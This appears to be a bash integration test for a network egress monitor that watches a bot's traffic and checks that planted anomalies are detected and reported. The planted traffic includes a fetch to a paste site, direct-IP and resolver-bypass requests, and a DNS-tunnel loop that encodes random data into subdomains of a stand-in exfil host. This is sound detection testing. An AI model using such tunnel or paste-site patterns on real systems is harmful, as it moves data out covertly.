#!/bin/bash
# One of each finding kind planted next to the bot's expected traffic, through the real
# resolver and the real nft rule: every planted finding is there, nothing is flagged for
# the expected traffic, and the report says so.
set -eu
. "$(dirname "$0")/lib.sh"
lab_require drill curl
lab_up "$IIF_RULE"
lab_upstream "api.telegram.org. 300 IN A 198.51.100.3" \
	"openrouter.ai. 300 IN CNAME or.cdn.test." "or.cdn.test. 300 IN A 198.51.100.4" \
	"paste.example. 300 IN A 198.51.100.6"
openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=lab -days 1 -keyout "$LAB_DIR/key.pem" \
	-out "$LAB_DIR/cert.pem" 2>/dev/null
ip netns exec "$NS_NET" openssl s_server -quiet -accept 443 -cert "$LAB_DIR/cert.pem" \
	-key "$LAB_DIR/key.pem" -naccept 1000 -www >/dev/null 2>&1 </dev/null &
LAB_PIDS="$LAB_PIDS $!"
ip netns exec "$NS_NET" socat TCP-LISTEN:80,fork,reuseaddr SYSTEM:'echo HTTP/1.0 200 OK; echo' &
LAB_PIDS="$LAB_PIDS $!"
lab_config "[dns]" "listen = 192.168.83.1:53" "forward = 198.51.100.2"
lab_collect

resolve() { in_vm drill -Q @192.168.83.1 "$1" "${2:-A}" 2>/dev/null | tail -n 1; }
fetch() {
	local ip
	ip=$(resolve "$1")
	[ -n "$ip" ] || { echo "# could not resolve $1"; return 0; }
	in_vm curl -sk -m 3 -o /dev/null --resolve "$1:$2:$ip" "$3://$1:$2/" || true
}

# expected traffic
for i in 1 2 3 4 5; do fetch api.telegram.org 443 https; done
for i in 1 2 3; do fetch openrouter.ai 443 https; done
# the surprises
fetch paste.example 443 https                                      # unexpected-domain + -destination
in_vm curl -sk -m 3 -o /dev/null https://198.51.100.9/ || true     # direct-ip
in_vm drill @198.51.100.2 example.org >/dev/null 2>&1 || true      # dns-bypass
fetch openrouter.ai 80 http                                        # unexpected-port
for n in $(seq 60); do                                             # dns-tunnel
	resolve "$(printf 'q%02dx%s' "$n" "$(head -c 10 /dev/urandom | od -An -tx1 | tr -d ' \n')").t.exfil.example" TXT
done >/dev/null
sleep 0.5
lab_stop TERM && rc=0 || rc=$?
check "collector exits 0" "$rc" 0

kinds=$(sql "SELECT kind || ' ' || key FROM findings WHERE key NOT GLOB 'q[0-9][0-9]x*' ORDER BY kind, key" | tr '\n' ';')
check "exactly the planted findings" "$kinds" "direct-ip 198.51.100.9:443/tcp;dns-bypass 198.51.100.2:53/udp;dns-tunnel exfil.example;unexpected-destination 198.51.100.6:443/tcp;unexpected-domain *.exfil.example;unexpected-domain paste.example;unexpected-port openrouter.ai 80/tcp;"
check "the tunnel's first names each have a finding" "$(sql "SELECT count(*) FROM findings WHERE kind = 'unexpected-domain' AND key GLOB 'q[0-9][0-9]x*.t.exfil.example'")" 8
check "nothing flagged for the expected names" "$(sql "SELECT count(*) FROM findings WHERE domain IN ('api.telegram.org', 'openrouter.ai') AND kind <> 'unexpected-port'")" 0
check "telegram: 5 expected connections" "$(sql "SELECT connections FROM destinations WHERE domain = 'api.telegram.org' AND ip = '198.51.100.3' AND port = 443 AND expected = 1")" 5
check "openrouter via its CNAME: 3 expected" "$(sql "SELECT connections FROM destinations WHERE domain = 'openrouter.ai' AND ip = '198.51.100.4' AND port = 443 AND expected = 1")" 3
check "addresses by the name asked" "$(sql "SELECT group_concat(n.name || ' ' || i.ip || ' ' || i.answers, ',') FROM (SELECT * FROM dns_ips WHERE ip GLOB '198.51.100.[346]' ORDER BY ip) i JOIN dns_names n ON n.id = i.name_id")" \
	"api.telegram.org 198.51.100.3 5,openrouter.ai 198.51.100.4 4,paste.example 198.51.100.6 1"
check "attribution is recorded on the rows" "$(sql "SELECT count(*) FROM connections WHERE domain = 'api.telegram.org' AND attr = 1 AND query_id IS NOT NULL")" 5
check "every finding has an alert queued" "$(sql "SELECT (SELECT count(*) FROM findings) = (SELECT count(*) FROM alert_outbox WHERE kind = 'finding')")" 1
check "watch day 1" "$(sql "SELECT DISTINCT watch_day FROM findings")" 1

"$OCA_BIN" report -c "$LAB_CONF" --since 1h --fail-on-findings >"$LAB_DIR/report.txt" && rc=0 || rc=$?
check "--fail-on-findings exits 3" "$rc" 3
check "text report verdict" "$(grep -c '^Verdict: 15 FINDINGS (15 unacknowledged)' "$LAB_DIR/report.txt")" 1
"$OCA_BIN" report -c "$LAB_CONF" --since 1h --format json >"$LAB_DIR/report.json"
check "json: findings" "$(jsonq "$LAB_DIR/report.json" "json_array_length(j, '\$.findings')")" 15
check "json: expected destinations" "$(jsonq "$LAB_DIR/report.json" "(SELECT count(*) FROM json_each(j, '\$.destinations') WHERE value->>'expected' = 1)")" 2
check "json: dns names" "$(jsonq "$LAB_DIR/report.json" "(SELECT value->>'queries' FROM json_each(j, '\$.dns') WHERE value->>'name' = 'api.telegram.org')")" 5
"$OCA_BIN" report -c "$LAB_CONF" --since 1h --format csv >"$LAB_DIR/report.csv"
check "csv: header and one line per finding" "$(wc -l <"$LAB_DIR/report.csv")" 16
lab_finish
